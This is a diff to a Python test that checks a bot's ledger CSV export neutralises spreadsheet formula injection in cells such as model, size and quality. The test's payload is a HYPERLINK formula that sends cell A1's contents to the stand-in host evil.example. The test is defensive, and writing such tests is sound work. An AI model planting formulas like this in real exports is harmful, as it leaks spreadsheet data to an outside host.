@@ -231,11 +231,12 @@ async def test_ledger_csv_cells_never_start_a_formula(storage: Storage, trigger:
     """The text cells come from outside the bot: the provider's answer (size, quality) and the
     operator's model names. A spreadsheet must show them as text, not run them."""
     formula = f'{trigger}HYPERLINK("https://evil.example/?"&A1,"open")'
+    short = f'{trigger}HYPERLINK("x")'  # what fits the size and quality columns (16 characters)
     job = await add_job(storage, model=formula)
     async with storage.sessions() as session, session.begin():
         stored = await session.get(Job, job.id)
         assert stored is not None
-        stored.size, stored.quality, stored.command = formula, formula, formula
+        stored.size, stored.quality, stored.command = short, short, short
     report = await server_report(storage.sessions, QUOTAS, GUILD, now=NOW)
     rows = list(
         csv.reader(
@@ -243,8 +244,9 @@ async def test_ledger_csv_cells_never_start_a_formula(storage: Storage, trigger:
         )
     )
     record = dict(zip(CSV_COLUMNS, rows[1], strict=True))
-    for column in ("command", "model", "size", "quality"):
-        assert record[column] == "'" + formula, column
+    assert record["model"] == "'" + formula
+    for column in ("command", "size", "quality"):
+        assert record[column] == "'" + short, column
     assert record["cost_usd"] == "0.020000" and record["member_id"] == "1"  # plain values stay
     for row in rows:
         assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
